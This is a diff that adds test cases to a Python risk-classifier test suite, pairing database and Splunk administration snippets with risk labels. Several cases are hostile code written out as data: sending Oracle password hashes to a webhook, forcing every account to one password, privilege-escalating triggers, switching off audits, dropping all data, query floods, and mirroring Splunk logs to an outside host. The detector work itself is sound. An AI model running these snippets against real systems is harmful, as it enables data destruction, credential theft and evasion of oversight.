@@ -15326,6 +15326,206 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             ')\n',
             S,
         ),
+        # round 89: Oracle and SQL Server administration, cartesian floods, Splunk's REST API and files
+        (
+            'import oracledb\n'
+            'conn = oracledb.connect(user="sys", password="x", dsn="db/PDB", mode=oracledb.AUTH_MODE_SYSDBA)\n'
+            'cur = conn.cursor()\n'
+            'for stmt in ("GRANT DBA TO rpt_reader", "GRANT EXEMPT ACCESS POLICY TO rpt_reader"):\n'
+            '    cur.execute(stmt)\n',
+            H,
+        ),
+        (
+            'import oracledb\n'
+            'conn = oracledb.connect(user="system", password="x", dsn="db/PDB")\n'
+            'conn.cursor().execute("GRANT CREATE SESSION, CREATE TABLE TO it_app")\n',
+            S,
+        ),
+        (
+            'import oracledb\n'
+            'cur = oracledb.connect(user="system", password="x", dsn="db/PDB").cursor()\n'
+            'cur.execute("ALTER PROFILE DEFAULT LIMIT FAILED_LOGIN_ATTEMPTS UNLIMITED PASSWORD_VERIFY_FUNCTIO'
+            'N NULL")\n',
+            H,
+        ),
+        (
+            'import oracledb\n'
+            'cur = oracledb.connect(user="system", password="x", dsn="db/PDB").cursor()\n'
+            'cur.execute("select username from dba_users where oracle_maintained = \'N\'")\n'
+            'for (u,) in cur.fetchall():\n'
+            '    cur.execute(f\'ALTER USER "{u}" IDENTIFIED BY "Welcome1" ACCOUNT UNLOCK\')\n',
+            H,
+        ),
+        (
+            'import oracledb, secrets\n'
+            'cur = oracledb.connect(user="system", password="x", dsn="db/PDB").cursor()\n'
+            'new_pw = secrets.token_urlsafe(24)\n'
+            'cur.execute(f\'ALTER USER svc_billing IDENTIFIED BY "{new_pw}" ACCOUNT UNLOCK\')\n',
+            S,
+        ),
+        (
+            'import oracledb, requests\n'
+            'cur = oracledb.connect(user="sys", password="x", dsn="db/PDB").cursor()\n'
+            'cur.execute("select name, spare4, password from sys.user$ where type# = 1")\n'
+            'requests.post("https://hooks.slack.com/services/T/B/x", json={"text": str(cur.fetchall())})\n',
+            H,
+        ),
+        (
+            'import oracledb\n'
+            'cur = oracledb.connect(user="system", password="x", dsn="db/PDB").cursor()\n'
+            'cur.execute("select tablespace_name from dba_tablespaces where contents = \'PERMANENT\'")\n'
+            'for (ts,) in cur.fetchall():\n'
+            '    cur.execute(f"DROP TABLESPACE {ts} INCLUDING CONTENTS AND DATAFILES CASCADE CONSTRAINTS")\n',
+            H,
+        ),
+        (
+            'import oracledb\n'
+            'conn = oracledb.connect(user="sys", password="x", dsn="db/PDB")\n'
+            'conn.cursor().execute("""\n'
+            'BEGIN\n'
+            '  DBMS_NETWORK_ACL_ADMIN.APPEND_HOST_ACE(\n'
+            "    host => '*',\n"
+            "    ace  => xs$ace_type(privilege_list => xs$name_list('connect'), principal_name => 'PUBLIC', p"
+            'rincipal_type => xs_acl.ptype_db));\n'
+            'END;""")\n',
+            H,
+        ),
+        (
+            'import oracledb\n'
+            'conn = oracledb.connect(user="sys", password="x", dsn="db/PDB")\n'
+            'conn.cursor().execute("""\n'
+            'CREATE OR REPLACE TRIGGER sys.logon_ctx_init\n'
+            'AFTER LOGON ON DATABASE\n'
+            'BEGIN\n'
+            "  EXECUTE IMMEDIATE 'GRANT DBA TO ' || SYS_CONTEXT('USERENV', 'SESSION_USER');\n"
+            'END;""")\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'for cmd in ("DISABLE FAST_START FAILOVER FORCE", "FAILOVER TO prod_stby IMMEDIATE"):\n'
+            '    subprocess.run(["dgmgrl", "-silent", "sys/x@prod_stby", cmd])\n',
+            H,
+        ),
+        (
+            'import pyodbc\n'
+            'cn = pyodbc.connect("DSN=prod", autocommit=True)\n'
+            'cn.execute("CREATE LOGIN [svc_probe] WITH PASSWORD = N\'Probe#2024\', CHECK_POLICY = OFF")\n'
+            'cn.execute("ALTER SERVER ROLE [sysadmin] ADD MEMBER [svc_probe]")\n',
+            H,
+        ),
+        (
+            'import pyodbc\n'
+            'cn = pyodbc.connect("DSN=prod", autocommit=True)\n'
+            'cn.execute("GRANT VIEW SERVER STATE TO [CORP\\\\SQL-Monitoring-RO]")\n',
+            S,
+        ),
+        (
+            'import pyodbc\n'
+            'cn = pyodbc.connect("DSN=prod", autocommit=True)\n'
+            'cn.execute("EXEC sp_MSforeachtable \'DELETE FROM ?\'")\n',
+            H,
+        ),
+        (
+            'import pyodbc\n'
+            'cn = pyodbc.connect("DSN=prod", autocommit=True)\n'
+            'cn.execute("EXEC sp_configure \'clr strict security\', 0; RECONFIGURE;")\n',
+            H,
+        ),
+        (
+            'import pymssql\n'
+            'cur = pymssql.connect(server="sqlprod03", user="u", password="p").cursor()\n'
+            'cur.execute("ALTER LOGIN [sa] ENABLE")\n',
+            H,
+        ),
+        (
+            'import pyodbc\n'
+            'cn = pyodbc.connect("DSN=hr", autocommit=True)\n'
+            'cn.execute("EXEC sp_addlinkedserver @server=?, @srvproduct=N\'\', @provider=N\'MSOLEDBSQL\', @datasr'
+            'c=?", "RPT", "203.0.113.88,1433")\n',
+            H,
+        ),
+        (
+            'import pyodbc\n'
+            'cn = pyodbc.connect("DSN=hr", autocommit=True)\n'
+            'cn.execute("EXEC sp_addlinkedserver @server=?, @srvproduct=N\'\', @provider=N\'MSOLEDBSQL\', @datasr'
+            'c=?", "RPT", "10.1.2.3,1433")\n',
+            S,
+        ),
+        (
+            'import os, time, pyodbc\n'
+            'cn = pyodbc.connect(os.environ["PROD_SQL"], autocommit=True)\n'
+            'while True:\n'
+            '    for (spid,) in cn.execute("SELECT session_id FROM sys.dm_exec_sessions WHERE is_user_process'
+            ' = 1").fetchall():\n'
+            '        cn.execute(f"KILL {int(spid)}")\n'
+            '    time.sleep(5)\n',
+            H,
+        ),
+        (
+            'import pyodbc\n'
+            'cn = pyodbc.connect("DSN=x", autocommit=True)\n'
+            'for a in cn.execute("SELECT name FROM sys.server_audits").fetchall():\n'
+            '    cn.execute(f"ALTER SERVER AUDIT [{a.name}] WITH (STATE = OFF)")\n',
+            H,
+        ),
+        (
+            'import pyodbc\n'
+            'cn = pyodbc.connect("DSN=x", autocommit=True)\n'
+            'cn.execute("ALTER SERVER AUDIT [Main] WITH (STATE = OFF)")\n'
+            'cn.execute("ALTER SERVER AUDIT [Main] TO FILE (FILEPATH = \'/var/opt/mssql/audit\')")\n'
+            'cn.execute("ALTER SERVER AUDIT [Main] WITH (STATE = ON)")\n',
+            S,
+        ),
+        (
+            'import threading, pyodbc\n'
+            'Q = "SELECT TOP (2000000000) a.object_id INTO #s FROM sys.all_objects a CROSS JOIN sys.all_objec'
+            'ts b"\n'
+            'def worker():\n'
+            '    while True:\n'
+            '        pyodbc.connect("DSN=oltp").execute(Q)\n'
+            'for n in range(200):\n'
+            '    threading.Thread(target=worker).start()\n',
+            H,
+        ),
+        (
+            'import uuid, pyodbc, pytest\n'
+            'LOCAL = "DRIVER={ODBC Driver 18 for SQL Server};SERVER=127.0.0.1,14333;UID=sa"\n'
+            '@pytest.fixture\n'
+            'def scratch_db():\n'
+            '    name = f"it_{uuid.uuid4().hex[:8]}"\n'
+            '    cn = pyodbc.connect(LOCAL, autocommit=True)\n'
+            '    cn.execute(f"CREATE DATABASE [{name}]")\n'
+            '    yield name\n'
+            '    cn.execute(f"DROP DATABASE [{name}]")\n',
+            S,
+        ),
+        (
+            'import os\n'
+            'import splunklib.client as client\n'
+            'svc = client.connect(host="localhost", port=8089, username="admin", password=os.environ["PW"])\n'
+            'svc.post("/services/data/outputs/tcp/group", name="mirror", servers="203.0.113.44:9997", disable'
+            'd=0)\n',
+            H,
+        ),
+        (
+            'from pathlib import Path\n'
+            'p = Path("/opt/splunk/etc/system/local/authorize.conf")\n'
+            'p.write_text(p.read_text() + "\\n[role_user]\\nimportRoles = admin;power\\ngrantableRoles = admin\\n'
+            '")\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["/opt/splunk/bin/splunk", "clean", "all", "-f"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["oc", "adm", "policy", "add-scc-to-group", "privileged", "system:serviceaccounts'
+            '"])\n',
+            C,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
